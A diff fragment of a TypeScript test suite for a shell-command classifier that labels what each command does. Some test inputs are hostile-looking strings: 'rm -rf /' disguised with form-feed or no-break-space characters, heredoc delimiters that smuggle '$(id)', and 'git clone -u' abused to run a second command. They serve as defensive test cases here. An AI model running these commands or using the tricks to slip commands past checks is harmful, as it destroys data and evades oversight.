     'an opening delimiter spelled across a continuation',
     'cat <<E\\\nOF\nbody $(id)\nEOF\nrm x',
-    ['exec id', 'exec cat', 'exec rm x'],
+    ['exec id', 'exec cat', 'exec rm x', 'write x'],
   ],
   [
     'an escaped backslash before the newline is not a continuation',
     'cat <<EOF\na\\\\\nEOF\nrm x',
-    ['exec cat', 'exec rm x'],
+    ['exec cat', 'exec rm x', 'write x'],
   ],
   ['a quoted delimiter keeps continuations', "cat <<'EOF'\n$\\\n(id)\nE\\\nOF\nEOF", ['exec cat']],
   [
     'a double-quoted delimiter spelled across a continuation',
     'cat <<"E\\\nOF"\n$(id)\nEOF\nrm x',
-    ['exec cat', 'exec rm x'],
+    ['exec cat', 'exec rm x', 'write x'],
   ],
 ];
 
 const blanks: readonly Case[] = [
-  ['form feed is a word character', 'rm\f-rf /', ['unknown', 'exec rm -rf /']],
+  ['form feed is a word character', 'rm\f-rf /', ['unknown', 'exec rm -rf /', 'write /']],
   ['vertical tab is a word character', 'echo a\vb', ['unknown', 'exec echo a b']],
   ['carriage return is a word character', 'ls\r\nid', ['unknown', 'exec ls', 'exec id']],
   ['no-break space is a word character', 'rm\u00a0-rf /', ['exec rm\u00a0-rf /']],
@@ -1000,8 +1085,12 @@ const falseUnknowns: readonly Case[] = [
   ['python -m runs a module', 'python3 -m json.tool', ['exec python3 -m json.tool']],
   ['an interpreter asked for its version', 'php -v', ['exec php -v']],
   ['python -v alone is verbose and reads stdin', 'python -v', ['exec python -v', 'unknown']],
-  ['git stash -u is not --upload-pack', 'git stash -u', ['exec git stash -u']],
-  ['git clone -u is --upload-pack', "git clone -u 'rm x' h:r", ['exec git clone -u rm x h:r', 'exec rm x']],
+  ['git stash -u is not --upload-pack', 'git stash -u', ['exec git stash -u', 'write .', 'write ./']],
+  [
+    'git clone -u is --upload-pack',
+    "git clone -u 'rm x' h:r",
+    ['exec git clone -u rm x h:r', 'exec rm x', 'write x', 'write r', 'write r/'],
+  ],
   ['command -v only looks up', 'command -v "$X"', ['exec command -v "$X"']],
   [
     'a format that starts with text is no option',
@@ -1044,7 +1133,9 @@ describe('classifyShellCommand where bash reads a line differently', () => {
   });
 
   it('brace expansion under the bound is still done', () => {
-    expect(classifyShellCommand('rm {a,b}{1..2}')).toEqual(actions('exec rm a1 a2 b1 b2'));
+    expect(classifyShellCommand('rm {a,b}{1..2}')).toEqual(
+      actions('exec rm a1 a2 b1 b2', 'write a1', 'write a2', 'write b1', 'write b2'),
+    );
   });
 });
 
